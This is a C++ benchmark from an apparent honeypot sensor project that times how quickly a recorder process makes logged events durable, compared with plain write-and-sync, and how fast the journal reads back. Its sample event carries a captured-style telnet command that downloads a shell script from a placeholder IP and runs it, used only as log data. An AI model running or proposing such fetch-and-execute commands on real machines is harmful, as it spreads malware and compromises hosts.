// How fast events become durable: through the real recorder process, beside what the disk itself
// needs for the same bytes.
//
// Usage: journal_bench [DIRECTORY] [EVENTS]      The directory decides which disk is measured.
#include "base/ids.hpp"
#include "base/wire.hpp"
#include "event/event.hpp"
#include "event/journal_line.hpp"
#include "event/journal_reader.hpp"
#include "process/channel.hpp"
#include "recorder/role.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <fcntl.h>
#include <filesystem>
#include <functional>
#include <numeric>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

using namespace skep;
using process::MessageKind;
using Steady = std::chrono::steady_clock;

namespace {

constexpr std::size_t alone_count = 300;
constexpr std::size_t floor_batch = 500;

double seconds_since(Steady::time_point start) {
    return std::chrono::duration<double>(Steady::now() - start).count();
}

std::string event_json(std::size_t number) {
    event::Event event{"command.input", system_clock().now()};
    event.text("session", "019ab3a5c04011223344");
    event.text("src_ip", "203.0.113.5");
    event.text("protocol", "telnet");
    event.text("service", "telnet");
    event.text("input",
               fmt::format("cd /tmp; wget http://203.0.113.9/{}.sh; sh {}.sh", number, number));
    return event::to_json(event);
}

struct Recorder {
    explicit Recorder(const std::string& state) {
        auto control = process::make_channel_pair();
        auto peer = process::make_channel_pair();
        if (!control || !peer) std::abort();
        pid = ::fork();
        if (pid == 0) {
            control->first.reset();
            peer->first.reset();
            const Settings settings;
            const process::RoleContext context{.role = "recorder",
                                               .settings = settings,
                                               .state_directory = state,
                                               .control = control->second.release()};
            ::_exit(recorder::run(context));
        }
        line = std::move(control->first);
        socket = std::move(peer->first);
        const auto name = std::move(WireWriter{}.bytes("sensor")).take();
        if (!process::send_now(line.get(), MessageKind::peer, name, peer->second.get()))
            std::abort();
    }

    ~Recorder() {
        (void)process::send_now(line.get(), MessageKind::stop, "");
        int status = 0;
        ::waitpid(pid, &status, 0);
    }

    Recorder(const Recorder&) = delete;
    Recorder& operator=(const Recorder&) = delete;

    void send(const std::string& json) {
        auto message = std::move(WireWriter{}.u64(++sent).bytes(json)).take();
        if (!process::send_now(socket.get(), MessageKind::event, message)) std::abort();
    }

    void wait_for(std::uint64_t sequence) {
        while (acknowledged < sequence) {
            const auto message = process::receive_now(socket.get());
            if (!message) std::abort();
            if (message->kind == MessageKind::acknowledged)
                acknowledged = WireReader{message->payload}.u64();
        }
    }

    pid_t pid = -1;
    process::Descriptor line;
    process::Descriptor socket;
    std::uint64_t sent = 0;
    std::uint64_t acknowledged = 0;
};

/// Median and 99th percentile of `run`, in milliseconds.
std::pair<double, double> spread(std::size_t count, const std::function<void()>& run) {
    std::vector<double> times;
    for (std::size_t i = 0; i < count; ++i) {
        // Longer than the recorder's gap between two syncs: each event comes alone.
        std::this_thread::sleep_for(std::chrono::milliseconds{60});
        const auto start = Steady::now();
        run();
        times.push_back(seconds_since(start) * 1000);
    }
    std::ranges::sort(times);
    return {times[count / 2], times[count * 99 / 100]};
}

/// The floor: one writer that writes and syncs the same bytes itself.
struct Plain {
    explicit Plain(const std::string& path)
        : file{::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0600)} {}

    void write(const std::string& bytes) const {
        if (::write(file.get(), bytes.data(), bytes.size()) < 0 || ::fdatasync(file.get()) != 0)
            std::abort();
    }

    process::Descriptor file;
};

void print(const char* what, double ours, double floor, const char* unit) {
    fmt::print("{:<46} {:>12.2f} {:>12.2f} {}\n", what, ours, floor, unit);
}

void measure(const std::string& state, std::size_t count) {
    const Plain plain{state + "/floor"};
    std::vector<std::string> events;
    std::string lines;
    for (std::size_t i = 0; i < count; ++i) {
        events.push_back(event_json(i));
        lines += event::frame_line(events.back());
    }
    Recorder recorder{state};
    const auto line = event::frame_line(events[0]);
    const auto [floor_half, floor_most] = spread(alone_count, [&] { plain.write(line); });
    const auto [half, most] = spread(alone_count, [&] {
        recorder.send(events[0]);
        recorder.wait_for(recorder.sent);
    });
    fmt::print("{:<46} {:>12} {:>12}\n", "", "recorder", "write+sync");
    print("one event at a time, durable after: median", half, floor_half, "ms");
    print("                                    99 %", most, floor_most, "ms");

    auto start = Steady::now();
    for (const auto& json : events)
        recorder.send(json);
    recorder.wait_for(recorder.sent);
    const auto ours = static_cast<double>(count) / seconds_since(start);
    start = Steady::now();
    for (std::size_t at = 0; at < lines.size(); at += floor_batch * line.size())
        plain.write(lines.substr(at, floor_batch * line.size()));
    const auto floor = static_cast<double>(count) / seconds_since(start);
    print("acknowledged events a second", ours, floor, "(floor: 500 lines a sync)");

    event::JournalReader reader{state + "/journal"};
    start = Steady::now();
    std::size_t read = 0;
    for (auto batch = reader.next(1000); !batch.empty(); batch = reader.next(1000))
        read += batch.size();
    const auto speed = static_cast<double>(read) / seconds_since(start);
    fmt::print("{:<46} {:>12.0f} {:>12} lines a second, {} bytes a line\n", "read back and checked",
               speed, "", line.size());
}

} // namespace

int main(int argc, char** argv) {
    const std::string base = argc > 1 ? argv[1] : std::filesystem::temp_directory_path().string();
    const std::size_t count = argc > 2 ? std::strtoul(argv[2], nullptr, 10) : 100'000;
    std::string state = base + "/skep-bench-XXXXXX";
    if (::mkdtemp(state.data()) == nullptr || count == 0) {
        fmt::print(stderr, "journal_bench: {} cannot be used\n", base);
        return 1;
    }
    measure(state, count);
    std::filesystem::remove_all(state);
    return 0;
}
